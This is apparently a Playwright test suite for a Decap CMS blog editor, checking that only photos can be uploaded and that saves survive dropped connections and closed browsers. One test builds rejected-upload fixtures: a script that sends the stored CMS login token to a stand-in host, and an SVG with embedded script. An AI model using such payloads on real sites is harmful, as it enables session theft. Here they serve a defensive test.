/**
 * 電車の中で書く事務局（issue 54）と、レビューを通る写真だけ（issue 52 の 2）。リポジトリーの一時的な複製に
 * decap-server（git モード）をつなぎ、390 px の Chromium で、つながりが切れたところを Playwright の route で作る。
 * - 記事の外へのアップロード（全体のメディアライブラリー）は無く、写真でないファイルは断り、写真は記事のブランチに
 *   だけ入る（main は変わらない）。
 * - 保存のあとの読み直しの最初の要求が切れても、記事が開き、ブランチには写真のそろったコミットが 1 つだけ。
 *   保存のあとに写真は 1 枚も戻ってこない。
 * - 保存の答えが届かず、確かめる要求も切れても、もう一度「保存」を押せば、2 つ目のブランチもコミットも作らない。
 * - ほかの端末で開いた記事の写真の要求が切れたら、やり直して見せる。ずっと切れたら、そう知らせて保存を止め、
 *   つながったら写真を見せる。
 * - 保存せずにブラウザーを閉じた記事が、すべての欄と写真と説明ごと戻り、10 秒たっても上書きされない。
 */
import {mkdtempSync, rmSync, writeFileSync} from 'node:fs';
import {tmpdir} from 'node:os';
import path from 'node:path';
import {chromium, type Page, type Request, type Route} from '@playwright/test';
import {createEditorRepo, type EditorRepo} from '../../../lib/editor-repo';
import {testLaunchOptions} from '../../../lib/chromium';
import {
  altField,
  choose,
  dateField,
  localBackups,
  phone,
  save,
  setDate,
  signIn,
} from './editor-page';
import {expect, test, watchPageErrors} from './fixture';
import {cameraJpeg} from './photo-files';
import {horizontalOverflow} from './phone-layout';

test.describe.configure({mode: 'serial'});
test.use({viewport: phone, serviceWorkers: 'block'});

/**
 * 「保存」から、保存した記事か日本語の知らせが出るまでの上限（やり直しは合わせて約 3.5 秒。2 コアを 4 つの
 * 作業で分け合うと、要求 1 つに 0.5 秒かかることがある）。
 */
const shownWithinMs = 30_000;

let repo: EditorRepo;
let dir: string;
let photos: string[];

test.beforeAll(async () => {
  test.setTimeout(120_000);
  dir = mkdtempSync(path.join(tmpdir(), 'denki-editor-saving-'));
  repo = await createEditorRepo();
  photos = [];
  for (const seed of [11, 12, 13]) {
    const file = path.join(dir, `IMG_00${seed}.jpg`);
    writeFileSync(file, await cameraJpeg({width: 1600, height: 1200, seed}));
    photos.push(file);
  }
});

test.afterAll(async () => {
  await repo?.remove();
  rmSync(dir, {recursive: true, force: true});
});

const git = (...args: string[]): Promise<string> => repo.git(...args);
const lines = (text: string): string[] => text.split('\n').filter(Boolean);
const editorBranches = async (): Promise<string[]> =>
  lines(await git('branch', '--list', 'cms/*', '--format=%(refname:short)'));
/** この記事の URL の名前を含むブランチ（「-1」を付けた 2 つ目も）。 */
const branchesOf = async (post: Post): Promise<string[]> =>
  (await editorBranches()).filter((branch) => branch.includes(`-${post.urlName}`));
const branchOf = (postDir: string): string => `cms/${postDir}/index`;

/** decap-server への要求の種類（Decap の proxy は、どれも POST /api/v1 の JSON の action）。 */
const actionOf = (request: Request): string =>
  (request.postDataJSON() as {action?: string} | null)?.action ?? '';

type Post = {
  readonly title: string;
  readonly urlName: string;
  readonly day: number;
  readonly alts: readonly string[];
};

const postDirOf = (post: Post): string =>
  `blog/2026-11-${String(post.day).padStart(2, '0')}-${post.urlName}`;

/** 新しい記事のすべての欄を書き、写真を選んで説明を付ける（保存はしない）。 */
async function writePost(page: Page, post: Post): Promise<void> {
  await page.getByLabel('題', {exact: true}).fill(post.title);
  await setDate(page, 2026, 11, post.day);
  const urlName = page.getByLabel('URL の名前', {exact: true});
  await urlName.fill(post.urlName);
  await expect(urlName).toHaveValue(post.urlName);
  await choose(page, '書いた人', 'まつり（matsuri）');
  await choose(page, 'タグ', 'お知らせ（announcement）');
  await page.getByLabel('説明', {exact: true}).fill(`${post.title}の説明です。`);
  await page.getByLabel('本文', {exact: true}).fill(`${post.title}の本文です。\n\n`);
  await page.locator('input[type=file]').setInputFiles(photos.slice(0, post.alts.length));
  for (const [index, alt] of post.alts.entries()) await altField(page, index + 1).fill(alt);
}

/** 記事のブランチの、main からのコミットと、足したファイル。 */
async function branchCommits(post: Post): Promise<{count: number; files: string[]}> {
  const branch = branchOf(postDirOf(post));
  return {
    count: Number(await git('rev-list', '--count', `main..${branch}`)),
    files: lines(await git('diff', '--name-only', 'main', branch)).sort(),
  };
}

const expectedFiles = (post: Post): string[] =>
  ['index.md', ...post.alts.map((_, index) => `photo-${index + 1}.jpg`)]
    .map((file) => `${postDirOf(post)}/${file}`)
    .sort();

/** 写真の欄の小さな画像が、すべて描けていること。 */
async function expectThumbnails(page: Page, count: number): Promise<void> {
  const thumbnails = page.locator('.denki-photos__thumb');
  await expect(thumbnails).toHaveCount(count);
  await expect
    .poll(() =>
      thumbnails.evaluateAll((images) =>
        images.filter((image) => (image as HTMLImageElement).naturalWidth > 0),
      ),
    )
    .toHaveLength(count);
}

test('記事の外へのアップロードは無く、写真でないファイルは日本語で断り、写真は記事のブランチにだけ入って main は変わらない', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const post: Post = {title: 'アップロードの道', urlName: 'uploads', day: 1, alts: ['改札の前']};
  const mainBefore = (await git('rev-parse', 'main')).trim();
  const html = path.join(dir, 'x.html');
  const script = path.join(dir, 'x.js');
  const svg = path.join(dir, 'map.svg');
  writeFileSync(html, '<!doctype html><script src="/img/uploads/x.js"></script>\n');
  writeFileSync(
    script,
    'fetch("https://example.invalid/?t=" + localStorage.getItem("decap-cms-user"));\n',
  );
  writeFileSync(
    svg,
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>\n',
  );
  page.on('dialog', (dialog) => void dialog.accept());

  // 全体のメディアライブラリー（上の「メディア」。main に直接コミットする）は、どの画面にも無い。
  await signIn(page, repo.editorUrl('', '#/collections/blog'));
  await expect(page.getByRole('link', {name: 'ワークフロー'})).toBeVisible();
  await expect(page.getByRole('button', {name: 'メディア'})).toHaveCount(0);
  await page.goto(repo.editorUrl('', '#/workflow'));
  await expect(page.getByText(/件がレビュー待ち/)).toBeVisible();
  await expect(page.getByRole('button', {name: 'メディア'})).toHaveCount(0);

  // 記事の「写真を追加」が、ただ 1 つのアップロードの道。写真でないファイルは名前を挙げて断る。
  await page.goto(repo.editorUrl('', '#/collections/blog/new'));
  await page.getByLabel('題', {exact: true}).fill(post.title);
  await page.locator('input[type=file]').setInputFiles([html, script, svg, photos[0] ?? '']);
  const problems = page.getByRole('alert').filter({hasText: '写真ではないファイル'});
  for (const file of [html, script, svg])
    await expect(problems).toContainText(`「${path.basename(file)}」は写真ではないファイルです`);
  await expect(problems).toContainText('記事に入れられるのは写真だけです。');
  await expect(altField(page, 1)).toBeVisible();
  await expect(altField(page, 2)).toHaveCount(0);
  expect(await horizontalOverflow(page)).toEqual([]);
  await problems.scrollIntoViewIfNeeded();
  await page.screenshot({path: test.info().outputPath('refused-files-390.png')});

  await setDate(page, 2026, 11, post.day);
  await page.getByLabel('URL の名前', {exact: true}).fill(post.urlName);
  await choose(page, '書いた人', 'まつり（matsuri）');
  await page.getByLabel('説明', {exact: true}).fill('アップロードの道を確かめる記事です。');
  await altField(page, 1).fill(post.alts[0] ?? '');
  await save(page);
  await expect(page.getByRole('button', {name: 'ステータス: 下書き'})).toBeVisible({
    timeout: shownWithinMs,
  });

  expect((await git('rev-parse', 'main')).trim(), 'main は変わらない').toBe(mainBefore);
  expect(await git('status', '--porcelain')).toBe('');
  const {count, files} = await branchCommits(post);
  expect(count).toBe(1);
  expect(files).toEqual(expectedFiles(post));
});

/** 読み直しの要求を切るテストが保存する記事（保存したその端末と、ほかの端末で開く）。 */
const reloadResetPost: Post = {
  title: '読み直しが切れた報告',
  urlName: 'reload-reset',
  day: 2,
  alts: ['ホームの案内板', '逃げる範囲の地図', '集合した参加者'],
};

test('保存のあとの読み直しの最初の要求が切れても記事が開き、写真は 1 枚も戻らず、ブランチは写真のそろったコミット 1 つだけ', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const post = reloadResetPost;
  page.on('dialog', (dialog) => void dialog.accept());
  await signIn(page, repo.editorUrl('', '#/collections/blog/new'));
  await writePost(page, post);

  // 保存（persistEntry）が通ったあとの、最初の要求（保存した記事の読み直し）を切る。そのあとの要求と、
  // 受け取ったバイト数を数える。
  const afterSave: string[] = [];
  const received: Promise<number>[] = [];
  let saved = false;
  let resetOne = false;
  await page.route('**/api/v1', async (route: Route) => {
    const action = actionOf(route.request());
    if (saved) afterSave.push(action);
    if (saved && !resetOne) {
      resetOne = true;
      await route.abort('connectionreset');
      return;
    }
    if (action === 'persistEntry') saved = true;
    await route.continue();
  });
  page.on('response', (response) => {
    if (saved && new URL(response.url()).pathname === '/api/v1')
      received.push(
        response.body().then(
          (body) => body.length,
          () => 0,
        ),
      );
  });

  // 2 度続けて押しても、保存は 1 度。
  const saveButton = page.getByRole('button', {name: '保存', exact: true});
  await saveButton.click();
  await saveButton.click({timeout: 1000}).catch(() => undefined);
  await expect(page.getByRole('button', {name: 'ステータス: 下書き'})).toBeVisible({
    timeout: shownWithinMs,
  });
  await expect(page.getByLabel('題', {exact: true})).toHaveValue(post.title);
  for (const [index, alt] of post.alts.entries())
    await expect(altField(page, index + 1)).toHaveValue(alt);
  await expectThumbnails(page, post.alts.length);
  expect(resetOne, '読み直しの要求を 1 つ切った').toBe(true);

  expect(await branchesOf(post)).toEqual([branchOf(postDirOf(post))]);
  const {count, files} = await branchCommits(post);
  expect(count).toBe(1);
  expect(files).toEqual(expectedFiles(post));

  // 写真は、このページが持っているものを見せ、バックエンドに求めない。受け取ったのは記事の文だけ。
  expect(afterSave).not.toContain('unpublishedEntryMediaFile');
  expect(afterSave).not.toContain('getMediaFile');
  const bytes = (await Promise.all(received)).reduce((sum, size) => sum + size, 0);
  expect(bytes, `保存のあとに受け取ったバイト数（${afterSave.join(', ')}）`).toBeLessThan(
    200 * 1024,
  );

  // もう一度「保存」を押しても、何も変わらない（変えていない記事の「保存」は押せない）。
  await expect(saveButton).toBeDisabled();
  expect((await branchCommits(post)).count).toBe(1);
});

test('保存の答えが届かず確かめる要求も切れたら日本語で知らせ、もう一度「保存」を押しても 2 つ目のブランチもコミットも作らない', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const post: Post = {
    title: 'トンネルの中の保存',
    urlName: 'tunnel',
    day: 3,
    alts: ['トンネルを出た電車', '駅の時計'],
  };
  page.on('dialog', (dialog) => void dialog.accept());
  await signIn(page, repo.editorUrl('', '#/collections/blog/new'));
  await writePost(page, post);

  // 保存の要求はサーバーに届く（コミットされる）が、答えは切れ、そのあとの要求もしばらく切れる。
  let offline = false;
  await page.route('**/api/v1', async (route: Route) => {
    if (offline) return route.abort('connectionreset');
    if (actionOf(route.request()) === 'persistEntry') {
      await route.fetch();
      offline = true;
      return route.abort('connectionreset');
    }
    return route.continue();
  });
  await save(page);
  await expect(
    page.getByText(/保存できませんでした。書いた内容はこの画面に残っています/),
  ).toBeVisible({
    timeout: shownWithinMs,
  });
  await expect(page.getByLabel('題', {exact: true})).toHaveValue(post.title);
  await page.screenshot({path: test.info().outputPath('save-unsure-390.png')});
  expect((await branchCommits(post)).count, '保存そのものは届いた').toBe(1);

  // つながってから、もう一度「保存」。ブランチの中身が同じなので送り直さず、その記事を開く。
  offline = false;
  await save(page);
  await expect(page.getByRole('button', {name: 'ステータス: 下書き'})).toBeVisible({
    timeout: shownWithinMs,
  });
  await expectThumbnails(page, post.alts.length);
  expect(await branchesOf(post)).toEqual([branchOf(postDirOf(post))]);
  const {count, files} = await branchCommits(post);
  expect(count, '同じ中身の 2 つ目のコミットは無い').toBe(1);
  expect(files).toEqual(expectedFiles(post));
});

test('保存したばかりの記事を読み直せなければ、この端末の中身で開いて日本語で知らせる', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const post: Post = {title: '圏外での保存', urlName: 'no-signal', day: 4, alts: ['山の中の駅']};
  page.on('dialog', (dialog) => void dialog.accept());
  await signIn(page, repo.editorUrl('', '#/collections/blog/new'));
  await writePost(page, post);
  let saved = false;
  await page.route('**/api/v1', async (route: Route) => {
    if (saved) return route.abort('connectionreset');
    if (actionOf(route.request()) === 'persistEntry') saved = true;
    return route.continue();
  });
  await save(page);
  await expect(
    page.getByText(/保存しました。保存した記事をサーバーから読み直せなかったので/),
  ).toBeVisible({
    timeout: shownWithinMs,
  });
  await expect(page.getByRole('button', {name: 'ステータス: 下書き'})).toBeVisible();
  await expect(page.getByLabel('題', {exact: true})).toHaveValue(post.title);
  await expect(altField(page, 1)).toHaveValue(post.alts[0] ?? '');
  await expectThumbnails(page, 1);
  expect(await horizontalOverflow(page)).toEqual([]);
  await page.screenshot({path: test.info().outputPath('opened-from-memory-390.png')});
  const {count, files} = await branchCommits(post);
  expect(count).toBe(1);
  expect(files).toEqual(expectedFiles(post));
});

test('ほかの端末で開いた記事の写真の要求が切れたらやり直して見せ、ずっと切れたら知らせて保存を止め、つながったら見せる', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const post = reloadResetPost;
  const entryUrl = repo.editorUrl(
    '',
    `#/collections/blog/entries/${postDirOf(post).replace('blog/', '')}/index`,
  );
  page.on('dialog', (dialog) => void dialog.accept());

  // 最初の写真の要求だけが切れる: やり直して、3 枚とも見せる。
  let resetFirst = false;
  await page.route('**/api/v1', async (route: Route) => {
    if (!resetFirst && actionOf(route.request()) === 'unpublishedEntryMediaFile') {
      resetFirst = true;
      return route.abort('connectionreset');
    }
    return route.continue();
  });
  await signIn(page, entryUrl);
  await expect(page.getByLabel('題', {exact: true})).toHaveValue(post.title, {
    timeout: shownWithinMs,
  });
  await expectThumbnails(page, post.alts.length);
  expect(resetFirst).toBe(true);
  await expect(page.getByText(/つながらないためまだ読み込めていません/)).toHaveCount(0);
  await page.unrouteAll({behavior: 'wait'});

  // 写真の要求がずっと切れる: 記事は開き、読めない写真を知らせ、保存は止める。
  let offline = true;
  await page.route('**/api/v1', async (route: Route) =>
    offline && actionOf(route.request()) === 'unpublishedEntryMediaFile'
      ? route.abort('connectionreset')
      : route.continue(),
  );
  await page.reload();
  await expect(page.getByLabel('題', {exact: true})).toHaveValue(post.title, {
    timeout: shownWithinMs,
  });
  const unreadText =
    '写真 3 枚（photo-1.jpg、photo-2.jpg、photo-3.jpg）を、つながらないためまだ読み込めていません。';
  const unread = page.getByRole('status').filter({hasText: unreadText});
  await expect(unread).toBeVisible();
  expect(await horizontalOverflow(page)).toEqual([]);
  await unread.scrollIntoViewIfNeeded();
  await page.screenshot({path: test.info().outputPath('photos-unread-390.png')});
  const description = page.getByLabel('説明', {exact: true});
  await description.fill(`${await description.inputValue()}（直しました）`);
  await save(page);
  // 写真の知らせ、本文の欄の赤い文、保存を断った知らせ（「「本文」を直してください: …」。client/refusal.ts）。
  await expect(page.getByText(unreadText)).toHaveCount(3);
  await expect(page.locator('.Toastify__toast')).toContainText(`を直してください: ${unreadText}`);
  expect((await branchCommits(post)).count).toBe(1);

  // つながると、写真を読んで見せ、知らせは消える。写真がそろえば保存でき、写真はブランチに残る。
  offline = false;
  await expect(unread).toHaveCount(0, {timeout: shownWithinMs});
  await expectThumbnails(page, post.alts.length);
  await save(page);
  await expect(page.getByText('保存しました。', {exact: true})).toBeVisible({
    timeout: shownWithinMs,
  });
  await expect(page.getByRole('button', {name: '保存', exact: true})).toBeDisabled();
  const {count, files} = await branchCommits(post);
  expect(count).toBe(2);
  expect(files).toEqual(expectedFiles(post));
  expect(await git('show', `${branchOf(postDirOf(post))}:${postDirOf(post)}/index.md`)).toContain(
    '（直しました）',
  );
});

test('保存せずにブラウザーを閉じた記事は、すべての欄と写真と説明ごと戻り、10 秒たっても上書きされない', async ({
  browserName,
}) => {
  test.setTimeout(150_000);
  expect(browserName).toBe('chromium');
  const post: Post = {
    title: '閉じても戻る報告',
    urlName: 'comes-back',
    day: 5,
    alts: ['閉じる前の 1 枚', '閉じる前の 2 枚目'],
  };
  const profile = mkdtempSync(path.join(tmpdir(), 'denki-editor-profile-'));
  const open = async () => {
    const context = await chromium.launchPersistentContext(profile, {
      ...testLaunchOptions,
      viewport: phone,
      serviceWorkers: 'block',
      baseURL: test.info().project.use.baseURL,
    });
    const check = watchPageErrors(context);
    const page = context.pages()[0] ?? (await context.newPage());
    return {context, page, check};
  };
  try {
    const first = await open();
    first.page.on('dialog', (dialog) => void dialog.accept());
    await signIn(first.page, repo.editorUrl('', '#/collections/blog/new'));
    await writePost(first.page, post);
    // Decap は書き終えて 2 秒たつと、端末に控えを残す。写真の説明まで残ったら、保存せずに閉じる。
    await expect
      .poll(() => localBackups(first.page), {timeout: 20_000})
      .toContain(post.alts.at(-1) ?? '');
    first.check();
    await first.context.close();

    const second = await open();
    const offer = second.page.waitForEvent('dialog');
    await second.page.goto(repo.editorUrl('', '#/collections/blog/new'));
    const dialog = await offer;
    expect(dialog.message()).toBe('ローカルのバックアップが復旧できました。利用しますか？');
    await dialog.accept();
    const {page} = second;
    const expectWhole = async (): Promise<void> => {
      await expect(page.getByLabel('題', {exact: true})).toHaveValue(post.title);
      await expect(dateField(page, '年')).toHaveValue('2026');
      await expect(dateField(page, '月')).toHaveValue('11');
      await expect(dateField(page, '日')).toHaveValue(String(post.day));
      await expect(page.getByLabel('URL の名前', {exact: true})).toHaveValue(post.urlName);
      await expect(page.getByText('まつり（matsuri）')).toBeVisible();
      await expect(page.getByText('お知らせ（announcement）')).toBeVisible();
      await expect(page.getByLabel('説明', {exact: true})).toHaveValue(`${post.title}の説明です。`);
      await expect(page.getByLabel('本文', {exact: true})).toHaveValue(
        new RegExp(`^${post.title}の本文です。`),
      );
      for (const [index, alt] of post.alts.entries())
        await expect(altField(page, index + 1)).toHaveValue(alt);
      await expectThumbnails(page, post.alts.length);
    };
    await expectWhole();
    // Decap は、戻した控えを数秒あとで記事の読み込みの結果で上書きすることがある（decap-cms#5055）。
    // 10 秒のあいだ見続けて、どの欄も戻したままであることを確かめる。
    const restoredAt = Date.now();
    while (Date.now() - restoredAt < 10_000) {
      await expectWhole();
      await page.waitForTimeout(1000);
    }
    await expectWhole();
    second.check();
    await second.context.close();
    expect(await branchesOf(post)).toEqual([]);
  } finally {
    rmSync(profile, {recursive: true, force: true});
  }
});
